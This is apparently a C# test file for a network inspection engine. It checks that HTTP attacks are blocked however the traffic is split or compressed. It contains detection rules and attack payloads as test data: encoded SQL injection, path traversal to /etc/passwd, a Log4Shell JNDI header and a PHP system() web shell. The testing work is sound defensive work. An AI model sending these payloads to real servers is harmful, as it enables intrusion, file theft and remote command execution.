using System.IO.Compression;
using System.Text;
using Demilune.Inspection.Frames;
using Demilune.Inspection.Tests.Traffic;
using Demilune.Inspection.Verdicts;

namespace Demilune.Inspection.Tests;

public class HttpAttacksAreBlockedTests
{
    private const string Rules = """
        drop http any any -> any any (msg:"SQL injection"; flow:established,to_server; http.uri; content:"union"; nocase; content:"select"; nocase; distance:0; sid:1;)
        drop http any any -> any any (msg:"Traversal"; flow:established,to_server; http.uri; content:"/etc/passwd"; sid:2;)
        drop http any any -> any any (msg:"Log4Shell"; flow:established,to_server; http.header; content:"${jndi:"; sid:3;)
        drop http any any -> any any (msg:"Web shell"; flow:established,to_server; http.method; content:"POST"; http.request_body; content:"<?php"; content:"system("; distance:0; sid:4;)
        drop http any any -> any any (msg:"Leak"; flow:established,to_client; http.response_body; content:"root:x:0:0"; sid:5;)
        """;

    private const string Response = "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok";

    [Fact]
    public void An_ordinary_request_and_its_response_pass_and_are_reported_as_a_transaction()
    {
        var talk = new Conversation();
        var replay = new Replay(Rules);
        replay.Feed(talk.Handshake()).Feed(talk.Send(Side.Client, "GET /hello?x=1 HTTP/1.1\r\nHost: web\r\n\r\n")).Feed(talk.Send(Side.Server, Response)).Feed(talk.Finish());
        Assert.Empty(replay.Alerts);
        Assert.Empty(replay.Anomalies);
        Assert.All(replay.Verdicts, verdict => Assert.Equal(FrameVerdict.Forward, verdict.Frame));
        Assert.Equal(["GET /hello?x=1 200 2"], replay.Transactions);
    }

    [Theory]
    [InlineData("GET /?q=1+UNION+ALL+SELECT+2 HTTP/1.1\r\nHost: web\r\n\r\n", 1u)]
    [InlineData("GET /?q=%2555nion%20se%6cect HTTP/1.1\r\nHost: web\r\n\r\n", 1u)]
    [InlineData("GET /a/..%2f..%c0%af..%5cetc/passwd HTTP/1.1\r\nHost: web\r\n\r\n", 2u)]
    [InlineData("GET /a/..;x/%2e%2e/etc//./passwd HTTP/1.1\r\nHost: web\r\n\r\n", 2u)]
    [InlineData("GET / HTTP/1.1\r\nHost: web\r\nX-Api: ${jndi:ldap://x/a}\r\n\r\n", 3u)]
    [InlineData("POST /up HTTP/1.1\r\nHost: web\r\nTransfer-Encoding: chunked\r\n\r\n4\r\n<?ph\r\n10\r\np system($_GET);\r\n0\r\n\r\n", 4u)]
    public void An_attack_is_blocked_however_it_is_cut(string request, uint sid)
    {
        foreach (var isV6 in (bool[])[false, true])
        {
            foreach (var pieceLength in (int[])[1, 7, 536, 1460, 65_000])
            {
                var talk = new Conversation(isV6);
                var replay = new Replay(Rules);
                replay.Feed(talk.Handshake()).Feed(talk.Send(Side.Client, request, pieceLength));
                Assert.Equal([sid], replay.Alerts);
                Assert.Equal([DropReason.Rules], replay.Drops);
                Assert.Contains(replay.Verdicts, verdict => verdict is { Frame: FrameVerdict.Drop, Flow: FlowVerdict.Block });
            }
        }
    }

    [Theory]
    [InlineData(true, new uint[] { 1 })]
    [InlineData(false, new uint[] { 1, 2 })]
    public void A_block_is_told_once_where_that_is_asked_for_else_by_every_signature(bool once, uint[] sids)
    {
        var talk = new Conversation();
        var replay = new Replay(Rules, options: new InspectorOptions { OneAlertPerBlock = once });
        replay.Feed(talk.Handshake()).Feed(talk.Send(Side.Client, "GET /etc/passwd?q=union+select HTTP/1.1\r\nHost: web\r\n\r\n"));
        Assert.Equal(sids, replay.Alerts);
        Assert.Equal([DropReason.Rules], replay.Drops);
    }

    [Fact]
    public void What_matched_in_a_decoded_text_is_shown_decoded()
    {
        var talk = new Conversation();
        var replay = new Replay("""drop http any any -> any any (msg:"x"; http.uri.raw; url_decode; url_decode; content:"../etc"; sid:1;)""");
        replay.Feed(talk.Handshake()).Feed(talk.Send(Side.Client, "GET /%252e%252e%252fetc HTTP/1.1\r\nHost: web\r\n\r\n"));
        Assert.Equal(["http.uri.raw=../etc"], replay.Evidence);
    }

    [Theory]
    [InlineData("gzip")]
    [InlineData("deflate")]
    [InlineData("br")]
    public void A_web_shell_in_a_chunked_and_compressed_body_is_blocked_however_it_is_cut(string coding)
    {
        var body = Compress(coding, Encoding.ASCII.GetBytes(new string('a', 3000) + "<?php echo system($_GET['c']); ?>" + new string('b', 3000)));
        var request = new List<byte>(Encoding.ASCII.GetBytes($"POST /u HTTP/1.1\r\nHost: w\r\nContent-Encoding: {coding}\r\nTransfer-Encoding: chunked\r\n\r\n"));
        foreach (var chunk in body.Chunk(11))
        {
            request.AddRange(Encoding.ASCII.GetBytes($"{chunk.Length:x}\r\n"));
            request.AddRange(chunk);
            request.AddRange("\r\n"u8);
        }
        request.AddRange("0\r\n\r\n"u8);
        foreach (var pieceLength in (int[])[1, 7, 536, 65_000])
        {
            var talk = new Conversation();
            var replay = new Replay(Rules);
            replay.Feed(talk.Handshake()).Feed(talk.Send(Side.Client, request.ToArray(), pieceLength));
            Assert.Equal([4u], replay.Alerts);
            Assert.Contains("http.request_body=<?php", replay.Evidence);
        }
    }

    [Fact]
    public void Both_ends_are_reset_with_numbers_that_they_accept()
    {
        var talk = new Conversation();
        var replay = new Replay(Rules);
        replay.Feed(talk.Handshake()).Feed(talk.Next(Side.Client, "GET /?q=union+sel"u8.ToArray()));
        var delivered = talk.ClientNext;
        replay.Feed(talk.Next(Side.Client, "ect HTTP/1.1\r\n\r\n"u8.ToArray()));
        Assert.Equal(2, replay.Injected.Count);
        var toServer = Segments.Read(replay.Injected.Single(sent => sent.Arrival == Interface.Out).Bytes);
        var toClient = Segments.Read(replay.Injected.Single(sent => sent.Arrival == Interface.In).Bytes);
        Assert.Equal(delivered, toServer.Sequence);
        Assert.Equal(Conversation.ServerV4, toServer.Destination);
        Assert.Equal(talk.ServerNext, toClient.Sequence);
        Assert.Equal(talk.ClientNext, toClient.Acknowledgment);
        Assert.Equal(Conversation.ClientV4, toClient.Destination);
        Assert.True(toServer.IsReset && toClient.IsReset);
        var next = replay.Feed(talk.Next(Side.Client, "x"u8.ToArray()));
        Assert.Equal(Verdict.Block(DropReason.FlowBlocked), next);
    }

    [Fact]
    public void After_a_block_a_new_connection_on_the_same_addresses_is_judged_anew()
    {
        var replay = new Replay(Rules);
        for (var i = 1; i <= 3; i++)
        {
            var talk = new Conversation { ClientNext = (uint)i * 100_000 };
            replay.Feed(talk.Handshake()).Feed(talk.Send(Side.Client, "GET /etc/passwd HTTP/1.1\r\nHost: w\r\n\r\n"));
            Assert.Equal(i, replay.Alerts.Count);
        }
    }

    [Fact]
    public void A_detecting_policy_tells_and_drops_nothing()
    {
        var talk = new Conversation();
        var replay = new Replay(Rules, prevent: false);
        replay.Feed(talk.Handshake()).Feed(talk.Send(Side.Client, "GET /etc/passwd HTTP/1.1\r\nHost: w\r\n\r\n")).Feed(talk.Send(Side.Server, Response));
        Assert.Equal([2u], replay.Alerts);
        Assert.Empty(replay.Drops);
        Assert.Empty(replay.Injected);
    }

    [Fact]
    public void A_leak_in_a_response_is_blocked()
    {
        var talk = new Conversation();
        var replay = new Replay(Rules);
        replay.Feed(talk.Handshake()).Feed(talk.Send(Side.Client, "GET / HTTP/1.1\r\nHost: w\r\n\r\n"))
            .Feed(talk.Send(Side.Server, "HTTP/1.1 200 OK\r\n\r\nroot:x:0:0:root", 5));
        Assert.Equal([5u], replay.Alerts);
    }

    [Fact]
    public void The_second_request_on_a_connection_is_judged_like_the_first()
    {
        var talk = new Conversation();
        var replay = new Replay(Rules);
        replay.Feed(talk.Handshake());
        for (var i = 0; i < 3; i++) replay.Feed(talk.Send(Side.Client, "GET / HTTP/1.1\r\nHost: w\r\n\r\n")).Feed(talk.Send(Side.Server, Response));
        replay.Feed(talk.Send(Side.Client, "GET /etc/passwd HTTP/1.1\r\nHost: w\r\n\r\n"));
        Assert.Equal([2u], replay.Alerts);
        Assert.Equal(3, replay.Transactions.Count);
    }

    private static byte[] Compress(string coding, byte[] bytes)
    {
        using var output = new MemoryStream();
        using (Stream stream = coding switch
        {
            "gzip" => new GZipStream(output, CompressionLevel.Fastest),
            "deflate" => new ZLibStream(output, CompressionLevel.Fastest),
            _ => new BrotliStream(output, CompressionLevel.Fastest),
        }) stream.Write(bytes);
        return output.ToArray();
    }
}
